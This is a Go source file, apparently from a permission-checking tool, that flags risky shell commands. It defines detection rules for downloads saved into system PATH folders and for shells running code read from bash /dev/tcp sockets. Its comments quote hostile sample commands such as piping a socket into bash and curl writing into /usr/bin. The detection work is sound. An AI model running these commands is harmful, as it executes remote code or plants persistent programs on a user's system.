package danger

import (
	"path"
	"slices"
	"strings"

	"github.com/permsim/permsim/engine/shell"
)

// host8 runs round 8's rules of the local host (shells, sockets,
// privileges, files, services, downloads) on one command: one call in
// command(), so the rules of this file stay together.
func (c *checker) host8(u unit) {
	c.downloadsIntoPrograms(u)
	c.socketScriptRun(u)
}

// pathProgramFolders are the folders of the system's PATH, /usr/local's
// included: a file saved there is found by every user's shell by name.
var pathProgramFolders = []string{"/usr/bin", "/bin", "/usr/sbin", "/sbin", "/usr/local/bin", "/usr/local/sbin"}

// downloadsIntoPrograms: a download saved into a folder of the system's
// PATH puts a program from another host where every user's shell runs
// it by name (heldout10's "curl URL -o /usr/bin/tool", "wget URL -O
// /usr/local/bin/tool"; README's dev6 call for programs put into
// /usr/bin). The options are each downloader's own for the saved file or
// its folder: curl(1) -o, --output, --output-dir; wget(1) -O,
// --output-document, -P, --directory-prefix; aria2c(1) -d, --dir, -o,
// --out; axel(1) -o, --output; HTTPie's --output with --download;
// fetch(1) -o. Extracting an archive into /usr/local/bin stays as
// programsInstalled has it (heldout5 labels it everyday): what lands
// there is not the download itself.
func (c *checker) downloadsIntoPrograms(u unit) {
	cmd, name, ok := u.program()
	if !ok {
		return
	}
	args := cmd.Args
	var targets []string
	switch name {
	case "curl", "wget":
		targets = downloadTargets(cmd, name)
		letter, dirOpt := "", "--output-dir"
		if name == "wget" {
			letter, dirOpt = "P", "--directory-prefix"
		}
		if d, ok := optValue(args, letter, dirOpt); ok {
			targets = append(targets, d)
		}
	case "aria2c":
		for _, o := range [][2]string{{"d", "--dir"}, {"o", "--out"}} {
			if v, ok := optValue(args, o[0], o[1]); ok {
				targets = append(targets, v)
			}
		}
	case "axel", "fetch":
		if v, ok := optValue(args, "o", "--output"); ok {
			targets = append(targets, v)
		}
	case "http", "https", "xh", "xhs":
		if hasLit(args, "--download", "-d") {
			if v, ok := optValue(args, "o", "--output"); ok {
				targets = append(targets, v)
			}
		}
	default:
		return
	}
	for _, t := range targets {
		abs := shell.Resolve(t, u.dir, c.home)
		if slices.ContainsFunc(pathProgramFolders, func(d string) bool { return shell.Within(abs, d) }) {
			c.because(name, t)
			c.add(PersistenceStartupFiles)
			return
		}
	}
}

// isSocketPath reports bash's network pseudo-files, /dev/tcp/HOST/PORT
// and /dev/udp/HOST/PORT (bash(1) REDIRECTION).
func isSocketPath(p string) bool {
	return strings.HasPrefix(p, "/dev/tcp/") || strings.HasPrefix(p, "/dev/udp/")
}

// readsSocket reports a redirect of cmd's standard input from a socket.
func readsSocket(cmd *shell.Command) (string, bool) {
	for _, r := range cmd.Redirects {
		if p, ok := shell.PathOf(r.Target); ok && r.Read && !r.Write && isSocketPath(p) {
			return p, true
		}
	}
	return "", false
}

// socketScriptRun: a shell or interpreter that reads its program from
// its standard input, which is a network socket (bash(1)'s /dev/tcp and
// /dev/udp), runs whatever the remote host sends: download-execute, as
// "curl URL | sh" is (heldout10's "cat /dev/tcp/HOST/80 | bash"). The
// socket is its own "<" redirect or what cat, piped into it, reads (by
// a redirect or as its operand, the drawer's label followed).
func (c *checker) socketScriptRun(u unit) {
	cmd, name, ok := u.program()
	if !ok || !interpreters[name] || !readsStdinAsCode(cmd) {
		return
	}
	if p, ok := readsSocket(cmd); ok {
		c.because(name, "<", p)
		c.add(DownloadExecute)
		return
	}
	if c.line == nil || c.at < 1 || c.at >= len(c.line.Commands) {
		return
	}
	prev := &c.line.Commands[c.at-1]
	if prev.Pipeline != c.line.Commands[c.at].Pipeline || prev.Dynamic || path.Base(prev.Name) != "cat" {
		return
	}
	p, ok := readsSocket(prev)
	for _, o := range operands(prev.Args) {
		if o.Literal && isSocketPath(o.Lit) {
			p, ok = o.Lit, true
		}
	}
	if ok {
		c.because("cat", p, "|", name)
		c.add(DownloadExecute)
	}
}

func init() {
	addRuleTexts(map[string]string{
		"socketScriptRun":       "a shell or interpreter reading its program from a network socket (bash's /dev/tcp/HOST/PORT or /dev/udp/HOST/PORT), by its own < redirect or from cat of the socket piped into it: it runs what the remote host sends",
		"downloadsIntoPrograms": "a download saved into a folder of the system's PATH (/usr/bin, /bin, /usr/sbin, /sbin, /usr/local/bin, /usr/local/sbin) by curl -o|--output-dir, wget -O|-P, aria2c -d|-o, axel -o, HTTPie --download --output or fetch -o: a program from another host every user's shell runs by name",
	})
}
